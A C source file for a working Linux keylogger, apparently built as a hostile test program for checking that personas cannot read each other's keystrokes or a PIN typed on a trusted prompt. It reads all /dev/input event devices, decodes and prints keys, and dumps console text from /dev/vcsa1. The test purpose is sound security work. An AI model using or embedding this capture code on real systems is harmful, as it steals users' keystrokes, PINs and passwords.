/*
 * keylog: a keylogger, as a hostile program in a persona would be one. It
 * reads every input device the kernel has (/dev/input/event*, which hands
 * each reader every event), prints each key it sees, and at the end looks at
 * the text on the screen's console (/dev/vcsa1) for what was typed.
 *
 *   keylog [SECONDS]   log for SECONDS (default 60), then print the summary:
 *                      "keylog: N key presses: <the keys as typed>"
 *                      "keylog: console shows: <each non-blank line of tty1>"
 *
 * Each key as it comes: "keylog: event0 key 30 (a) down". The tests run it in
 * both personas and check that keys reach only the persona shown, and that
 * none of a PIN typed on the trusted prompt reaches any persona.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* Linux's evdev ABI (linux/input.h, which this libc does not carry): one event a read. */
struct input_event {
    long seconds, microseconds;
    unsigned short type, code;
    int value;
};
#define EV_KEY 1
#define KEY_ENTER 28
#define KEY_SPACE 57
#define KEY_KP7 71
#define KEY_KP0 82
#define KEY_KPENTER 96

#define DEVICES_MAX 8
#define TYPED_MAX 256

/* US layout, unshifted: what a key code types (0 for keys that type nothing). */
static char key_char(unsigned code)
{
    static const char row1[] = "1234567890-="; /* KEY_1 (2) to KEY_EQUAL (13) */
    static const char row2[] = "qwertyuiop[]"; /* KEY_Q (16) to KEY_RIGHTBRACE (27) */
    static const char row3[] = "asdfghjkl;'`"; /* KEY_A (30) to KEY_GRAVE (41) */
    static const char row4[] = "\\zxcvbnm,./"; /* KEY_BACKSLASH (43) to KEY_SLASH (53) */
    if (code >= 2 && code <= 13)
        return row1[code - 2];
    if (code >= 16 && code <= 27)
        return row2[code - 16];
    if (code >= 30 && code <= 41)
        return row3[code - 30];
    if (code >= 43 && code <= 53)
        return row4[code - 43];
    if (code == KEY_SPACE)
        return ' ';
    if (code == KEY_ENTER || code == KEY_KPENTER)
        return '\n';
    if (code >= KEY_KP7 && code <= KEY_KP0) {
        static const char keypad[] = "789-456+1230.";
        return keypad[code - KEY_KP7];
    }
    return 0;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int open_devices(int *fds, char names[][16])
{
    int count = 0;
    DIR *dir = opendir("/dev/input");
    for (struct dirent *e; dir && (e = readdir(dir)) != NULL && count < DEVICES_MAX;) {
        if (strncmp(e->d_name, "event", 5) != 0)
            continue;
        char path[300];
        snprintf(path, sizeof(path), "/dev/input/%.255s", e->d_name);
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) {
            printf("keylog: cannot open %s: %s\n", path, strerror(errno));
            continue;
        }
        snprintf(names[count], 16, "%.15s", e->d_name);
        fds[count++] = fd;
    }
    if (dir)
        closedir(dir);
    return count;
}

/* The console's screen as text: /dev/vcsa1 is tty1's size (rows, columns, cursor), then each
 * cell's character and attribute. */
static void show_console(void)
{
    static unsigned char screen[4 + 2 * 200 * 100];
    int fd = open("/dev/vcsa1", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("keylog: no console screen to read (/dev/vcsa1: %s)\n", strerror(errno));
        return;
    }
    ssize_t n = read(fd, screen, sizeof(screen));
    close(fd);
    unsigned rows = n >= 4 ? screen[0] : 0, columns = n >= 4 ? screen[1] : 0;
    for (unsigned row = 0; row < rows && columns && columns < 256; row++) {
        char line[256];
        unsigned length = 0;
        for (unsigned x = 0; x < columns; x++) {
            size_t at = 4 + 2 * ((size_t)row * columns + x);
            line[length++] =
                at < (size_t)n && screen[at] >= ' ' && screen[at] < 127 ? (char)screen[at] : ' ';
        }
        while (length && line[length - 1] == ' ')
            length--;
        line[length] = '\0';
        if (length)
            printf("keylog: console shows: %s\n", line);
    }
}

int main(int argc, char **argv)
{
    char *end_of_number = NULL;
    double seconds = argc > 1 ? strtod(argv[1], &end_of_number) : 60;
    if (argc > 2 || (argc > 1 && (end_of_number == argv[1] || *end_of_number || seconds <= 0))) {
        fprintf(stderr, "usage: keylog [SECONDS]\n");
        return 2;
    }
    int fds[DEVICES_MAX];
    char names[DEVICES_MAX][16];
    int count = open_devices(fds, names);
    printf("keylog: reading %d input device(s) for %g s\n", count, seconds);
    fflush(stdout);
    char typed[TYPED_MAX + 1];
    unsigned presses = 0, length = 0;
    double end = now() + seconds;
    while (now() < end) {
        struct pollfd p[DEVICES_MAX];
        for (int i = 0; i < count; i++)
            p[i] = (struct pollfd){ .fd = fds[i], .events = POLLIN };
        int wait = (int)((end - now()) * 1000) + 1;
        if (poll(p, (nfds_t)count, wait) <= 0)
            continue;
        for (int i = 0; i < count; i++) {
            struct input_event e;
            while ((p[i].revents & POLLIN) && read(fds[i], &e, sizeof(e)) == (ssize_t)sizeof(e)) {
                if (e.type != EV_KEY)
                    continue;
                char c = key_char(e.code);
                printf("keylog: %s key %u (%s) %s\n", names[i], e.code,
                       c == '\n' ? "enter"
                       : c       ? (char[]){ c, 0 }
                                 : "-",
                       e.value == 1   ? "down"
                       : e.value == 0 ? "up"
                                      : "repeat");
                fflush(stdout);
                if (e.value == 1) {
                    presses++;
                    if (c && c != '\n' && length < TYPED_MAX)
                        typed[length++] = c;
                }
            }
        }
    }
    typed[length] = '\0';
    printf("keylog: %u key presses: %s\n", presses, length ? typed : "(none)");
    show_console();
    printf("keylog: done\n");
    return 0;
}
